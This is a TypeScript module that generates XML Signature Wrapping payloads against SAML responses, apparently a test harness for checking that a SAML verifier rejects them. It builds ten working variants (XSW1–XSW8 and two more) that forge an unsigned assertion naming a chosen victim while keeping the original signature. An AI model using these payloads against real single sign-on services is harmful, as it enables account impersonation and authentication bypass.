import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
  readonly responseSignature: Element;
  readonly assertionSignature: Element;
  /** A copy of the assertion, without a signature, about somebody else. */
  readonly evil: Element;
}

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

function childNamed(parent: Element, name: string): Element {
  const found = Array.from(parent.childNodes).find((node) => (node as Element).localName === name);
  if (!found) throw new Error(`no ${name}`);
  return found as Element;
}

function partsOf(xml: string, victim: string): Parts {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const assertion = childNamed(response, 'Assertion');
  const evil = assertion.cloneNode(true) as Element;
  evil.removeChild(childNamed(evil, 'Signature'));
  evil.setAttribute('ID', '_evil');
  childNamed(childNamed(evil, 'Subject'), 'NameID').textContent = victim;
  return {
    document, response, assertion, evil, responseSignature: childNamed(response, 'Signature'), assertionSignature: childNamed(assertion, 'Signature'),
  }; // prettier-ignore
}

/** A response without its signature, with the evil assertion in it, that holds the original one somewhere. */
function evilResponse({ response, evil }: Parts, id: string): Element {
  const copy = response.cloneNode(true) as Element;
  copy.removeChild(childNamed(copy, 'Signature'));
  copy.replaceChild(evil, childNamed(copy, 'Assertion'));
  copy.setAttribute('ID', id);
  return copy;
}

function objectWith({ document }: Parts, content: Element): Element {
  const object = document.createElementNS(DSIG, 'ds:Object');
  object.appendChild(content);
  return object;
}

function extensionsWith({ document, response }: Parts, content: Element): Element {
  const extensions = document.createElementNS(response.namespaceURI, 'samlp:Extensions');
  extensions.appendChild(content);
  return extensions;
}

/** The family of Somorovsky et al., "On Breaking SAML" (USENIX Security 2012), numbered as SAML Raider does. */
export const WRAPPINGS: Readonly<Record<string, (parts: Parts) => Element>> = {
  'XSW1: the signed response inside its own signature': (parts) => {
    const evil = evilResponse(parts, '_evil-response');
    const original = parts.response.cloneNode(true) as Element;
    original.removeChild(childNamed(original, 'Signature'));
    const signature = parts.responseSignature.cloneNode(true) as Element;
    signature.appendChild(original);
    evil.insertBefore(signature, childNamed(evil, 'Issuer').nextSibling);
    return evil;
  },
  'XSW2: the signed response before its detached signature': (parts) => {
    const evil = evilResponse(parts, '_evil-response');
    const original = parts.response.cloneNode(true) as Element;
    original.removeChild(childNamed(original, 'Signature'));
    evil.insertBefore(original, evil.firstChild);
    evil.insertBefore(parts.responseSignature.cloneNode(true), original.nextSibling);
    return evil;
  },
  'XSW3: an assertion before the signed one': ({ response, assertion, evil }) => {
    response.insertBefore(evil, assertion);
    return response;
  },
  'XSW4: the signed assertion inside another': ({ response, assertion, evil }) => {
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
    return response;
  },
  'XSW5: another assertion that carries the signature': ({ response, assertion, evil, assertionSignature }) => {
    evil.insertBefore(assertionSignature, childNamed(evil, 'Issuer').nextSibling);
    response.replaceChild(evil, assertion);
    response.appendChild(assertion);
    return response;
  },
  'XSW6: the signed assertion inside the signature of another': ({ response, assertion, evil, assertionSignature }) => {
    evil.insertBefore(assertionSignature, childNamed(evil, 'Issuer').nextSibling);
    response.replaceChild(evil, assertion);
    assertionSignature.appendChild(assertion);
    return response;
  },
  'XSW7: another assertion among the extensions': (parts) => {
    parts.response.insertBefore(extensionsWith(parts, parts.evil), parts.assertion);
    return parts.response;
  },
  'XSW8: the signed assertion as an object of the signature': (parts) => {
    const { response, assertion, evil, assertionSignature } = parts;
    evil.insertBefore(assertionSignature, childNamed(evil, 'Issuer').nextSibling);
    response.replaceChild(evil, assertion);
    assertionSignature.appendChild(objectWith(parts, assertion));
    return response;
  },
  'the signed assertion among the extensions, another in its place': (parts) => {
    parts.response.replaceChild(parts.evil, parts.assertion);
    parts.response.insertBefore(extensionsWith(parts, parts.assertion), parts.evil);
    return parts.response;
  },
  'two assertions of one id': ({ response, assertion, evil }) => {
    evil.setAttribute('ID', assertion.getAttribute('ID') ?? '');
    response.insertBefore(evil, assertion);
    return response;
  },
};

export function wrapped(xml: string, victim: string, wrapping: (parts: Parts) => Element): string {
  return new XMLSerializer().serializeToString(wrapping(partsOf(xml, victim)));
}
